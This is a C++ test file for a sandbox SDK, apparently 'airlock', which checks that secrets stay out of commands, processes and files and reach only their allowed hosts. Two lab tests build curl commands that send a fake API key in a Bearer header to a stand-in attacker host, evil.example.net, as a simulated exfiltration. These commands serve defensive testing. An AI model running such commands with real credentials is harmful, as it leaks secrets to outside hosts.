// airlock::Sandbox against real sandboxes. The Lab* tests use the upstream lab of
// tests/e2e/sdk_lab.py (run by tests/e2e/test_sdk_cpp.py); the others need only the binary.
#include <airlock/airlock.hpp>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>

namespace {

using ::testing::HasSubstr;
using ::testing::Not;

std::string fake_value(const std::string& name) {
  std::random_device rd;
  std::ostringstream s;
  s << "sk-airlock-cpp-FAKE-" << name << "-" << std::hex << rd() << rd();
  return s.str();
}

airlock::SandboxSettings quiet() {
  airlock::SandboxSettings s;
  s.log_fd = -1;
  return s;
}

TEST(CppSandbox, RunsShareTheSandbox) {
  airlock::SandboxSettings settings = quiet();
  settings.env = {{"GREETING", "hello"}};
  airlock::Sandbox sb = airlock::Sandbox::start(airlock::SandboxBuilder().build(), settings);
  EXPECT_EQ(sb.run({"sh", "-c", "echo \"$GREETING\" > /tmp/state; exit 4"}).exit_code, 4);
  const airlock::RunResult r = sb.run({"cat", "/tmp/state"});
  EXPECT_EQ(r.stdout_bytes, "hello\n");
  airlock::Command c;
  c.argv = {"sh", "-c", "cat; echo \"$X\" >&2; pwd"};
  c.stdin_bytes = "in\n";
  c.env = {{"X", "x1"}};
  c.workdir = "/tmp";
  const airlock::RunResult r2 = sb.run(c);
  EXPECT_EQ(r2.stdout_bytes, "in\n/tmp\n");
  EXPECT_EQ(r2.stderr_bytes, "x1\n");
  airlock::Command slow;
  slow.argv = {"sleep", "30"};
  slow.timeout = std::chrono::milliseconds(200);
  EXPECT_TRUE(sb.run(slow).timed_out);
  EXPECT_EQ(sb.run({"no-such-command"}).exit_code, 127);
}

TEST(CppSandbox, ARunCarryingTheValueIsRefused) {
  const std::string value = fake_value("REFUSED");
  airlock::Sandbox sb = airlock::Sandbox::start(
      airlock::SandboxBuilder().secret_env("API_KEY", value, "api.example.com").build(), quiet());
  try {
    sb.run({"echo", "Bearer " + value});
    ADD_FAILURE() << "the value was accepted";
  } catch (const airlock::ConfigError& e) {
    EXPECT_THAT(e.what(), HasSubstr("secret \"API_KEY\""));
    EXPECT_THAT(e.what(), Not(HasSubstr(value)));
  }
  EXPECT_EQ(sb.run({"sh", "-c", "echo \"$API_KEY\""}).stdout_bytes, "$MSB_API_KEY\n");
  EXPECT_EQ(sb.placeholder("API_KEY"), "$MSB_API_KEY");
}

TEST(CppSandbox, AirlocksOwnChecksAreErrors) {
  airlock::SandboxSettings relative = quiet();
  relative.mounts = {{"relative/path", "/data", false}};
  EXPECT_THROW(airlock::Sandbox::start(airlock::SandboxBuilder().build(), relative), airlock::ConfigError);
  airlock::SandboxBuilder bad_egress;
  bad_egress.network([](airlock::NetworkBuilder& n) -> airlock::NetworkBuilder& {
    n.config().egress.push_back("allow@");
    return n;
  });
  try {
    airlock::Sandbox::start(bad_egress.build(), quiet());
    ADD_FAILURE() << "a broken egress rule was accepted";
  } catch (const airlock::ConfigError& e) {
    EXPECT_THAT(e.what(), HasSubstr("allow@"));
  }
  airlock::SandboxSettings missing = quiet();
  missing.airlock_binary = "/nonexistent/airlock";
  EXPECT_THROW(airlock::Sandbox::start(airlock::SandboxBuilder().build(), missing), airlock::SandboxError);
}

TEST(CppSandbox, StopEndsIt) {
  airlock::Sandbox sb = airlock::Sandbox::start(airlock::SandboxBuilder().build(), quiet());
  sb.stop();
  sb.stop();
  EXPECT_TRUE(sb.stopped());
  EXPECT_THROW(sb.run({"true"}), airlock::SandboxError);
}

// ---------------------------------------------------------------- with the upstream lab

std::string lab(const char* name) {
  const char* v = std::getenv(name);
  if (v == nullptr) throw std::runtime_error(std::string("the lab variable ") + name + " is not set");
  return v;
}

airlock::NetworkBuilder& lab_network(airlock::NetworkBuilder& n, airlock::ViolationAction action) {
  n.on_secret_violation(action).upstream_ca_file(lab("AIRLOCK_LAB_CA"));
  n.config().egress.push_back(lab("AIRLOCK_LAB_EGRESS"));
  return n;
}

airlock::SandboxSettings lab_settings() {
  airlock::SandboxSettings s = quiet();
  s.dns_servers = {lab("AIRLOCK_LAB_DNS")};
  return s;
}

// "the real value", "not the value" or "N requests" for the requests whose URI holds marker.
std::string received(const std::string& marker, const std::string& value) {
  std::ifstream log(lab("AIRLOCK_LAB_ACCESS_LOG"));
  std::string line, auth;
  int n = 0;
  while (std::getline(log, line)) {
    if (line.find("\"uri\":\"/" + marker) == std::string::npos) continue;
    ++n;
    auth = line;
  }
  if (n != 1) return std::to_string(n) + " requests";
  return auth.find("\"authorization\":\"Bearer " + value + "\"") != std::string::npos ? "the real value"
                                                                                       : "not the value";
}

std::string curl(const std::string& host, const std::string& marker, const std::string& env) {
  return "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' -H \"Authorization: Bearer $" + env + "\" https://" + host +
         "/" + marker;
}

// No /proc/*/cmdline or environ holds value.
void expect_in_no_process(const std::string& value) {
  DIR* proc = ::opendir("/proc");
  ASSERT_NE(proc, nullptr);
  int checked = 0;
  while (dirent* d = ::readdir(proc)) {
    if (d->d_name[0] < '0' || d->d_name[0] > '9') continue;
    for (const char* f : {"cmdline", "environ"}) {
      std::ifstream in(std::string("/proc/") + d->d_name + "/" + f, std::ios::binary);
      if (!in) continue;
      std::string data((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
      ++checked;
      EXPECT_EQ(data.find(value), std::string::npos) << "/proc/" << d->d_name << "/" << f << " holds the value";
    }
  }
  ::closedir(proc);
  EXPECT_GT(checked, 10);
}

// No regular file under these roots (other than the upstream's log, which is meant to hold what it
// received) holds value.
void expect_in_no_file(const std::string& value) {
  namespace fs = std::filesystem;
  const std::string skip = lab("AIRLOCK_LAB_ACCESS_LOG");
  for (const std::string& root : {lab("AIRLOCK_HOME"), std::string("/run/airlock"), lab("AIRLOCK_LAB_DIR"), std::string("/tmp")}) {
    std::error_code ec;
    for (fs::recursive_directory_iterator it(root, fs::directory_options::skip_permission_denied, ec), end;
         !ec && it != end; it.increment(ec)) {
      std::error_code e2;
      if (!it->is_regular_file(e2) || it->is_symlink(e2) || it->path() == skip || it->file_size(e2) > (4u << 20)) continue;
      std::ifstream in(it->path(), std::ios::binary);
      const std::string data((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
      EXPECT_EQ(data.find(value), std::string::npos) << it->path() << " holds the value";
    }
  }
}

TEST(LabCppSandbox, TheValueReachesOnlyItsHost) {
  const std::string value = fake_value("OPENAI");
  ::setenv("OPENAI_API_KEY", value.c_str(), 1);  // as a user's program would hold it
  airlock::SandboxBuilder b;
  b.secret([&](airlock::SecretBuilder& s) -> airlock::SecretBuilder& {
     return s.env("OPENAI_API_KEY").value(std::getenv("OPENAI_API_KEY")).allow_host_pattern("*.openai.com");
   }).network([](airlock::NetworkBuilder& n) -> airlock::NetworkBuilder& {
    return lab_network(n, airlock::ViolationAction::kUnset);
  });
  airlock::Sandbox sb = airlock::Sandbox::start(b.build(), lab_settings());
  const airlock::RunResult r =
      sb.run({"sh", "-c", curl("api.openai.com", "cpp-ok", "OPENAI_API_KEY") + "; " +
                              curl("evil.example.net", "cpp-evil", "OPENAI_API_KEY") + " 2>/dev/null; true"});
  EXPECT_EQ(r.stdout_bytes, "200\n000\n");
  EXPECT_EQ(received("cpp-ok", value), "the real value");
  EXPECT_EQ(received("cpp-evil", value), "0 requests");
  ASSERT_EQ(sb.violations().size(), 1u);
  EXPECT_THAT(sb.violations()[0], HasSubstr("\"secret\":\"OPENAI_API_KEY\""));
  EXPECT_THAT(r.stdout_bytes + r.stderr_bytes, Not(HasSubstr(value)));
  ::unsetenv("OPENAI_API_KEY");
  expect_in_no_process(value);
  expect_in_no_file(value);
}

TEST(LabCppSandbox, BlockAndTerminateStopsTheSandbox) {
  const std::string value = fake_value("TERM");
  airlock::SandboxBuilder b;
  b.secret_env("API_KEY", value, "api.example.com").network([](airlock::NetworkBuilder& n) -> airlock::NetworkBuilder& {
    return lab_network(n, airlock::ViolationAction::kBlockAndTerminate);
  });
  airlock::Sandbox sb = airlock::Sandbox::start(b.build(), lab_settings());
  EXPECT_EQ(sb.run({"sh", "-c", curl("api.example.com", "cpp-term-ok", "API_KEY")}).stdout_bytes, "200\n");
  EXPECT_EQ(received("cpp-term-ok", value), "the real value");
  EXPECT_THROW(sb.run({"sh", "-c", curl("evil.example.net", "cpp-term-evil", "API_KEY") + "; sleep 30"}),
               airlock::SandboxError);
  EXPECT_TRUE(sb.stopped());
  EXPECT_EQ(sb.stop_code(), 125);
  EXPECT_THAT(sb.stop_reason(), HasSubstr("API_KEY"));
  EXPECT_EQ(received("cpp-term-evil", value), "0 requests");
}

}  // namespace
